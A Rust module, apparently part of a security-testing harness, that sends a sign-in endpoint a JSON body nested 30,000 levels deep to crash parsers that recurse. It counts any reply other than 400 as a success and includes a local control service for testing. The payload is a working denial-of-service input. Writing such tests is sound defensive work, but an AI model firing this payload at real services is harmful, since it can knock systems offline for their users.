//! Bodies that nest as deeply as they are long: a parser that calls itself runs out of stack, and with it the program ends.

use axum::Router;
use axum::body::Bytes;
use axum::routing::post;

use super::{Attack, Control};
use crate::Outcome;
use crate::target::Target;

pub const ATTACK: Attack = Attack { name: "nested_body", settings: &[], control: Control::Service };

/// As deep as fits into what is read at all.
const DEPTH: usize = 30_000;

pub async fn attack(target: &Target) -> anyhow::Result<Outcome> {
    for (open, close) in [("[", "]"), ("{\"a\":", "}")] {
        // The second one costs more for each level.
        let depth = DEPTH / open.len();
        let body = format!("{{\"email\":{}1{}}}", open.repeat(depth), close.repeat(depth));
        let answer = target.send("POST", "/api/v1/sign-in", "content-type: application/json\r\n", &body).await?;
        if answer.status != 400 {
            return Ok(Outcome::Succeeded(format!("{depth} levels were answered with {}", answer.status)));
        }
    }
    Ok(Outcome::Stopped)
}

pub async fn service() -> anyhow::Result<Target> {
    Target::service(Router::new().route("/api/v1/sign-in", post(follow))).await
}

/// Goes down as far as it is told.
async fn follow(body: Bytes) -> String {
    let (_, deepest) = body.iter().fold((0_u32, 0_u32), |(now, most), byte| match byte {
        b'[' | b'{' => (now + 1, most.max(now + 1)),
        b']' | b'}' => (now.saturating_sub(1), most),
        _ => (now, most),
    });
    format!("went down {deepest} levels")
}
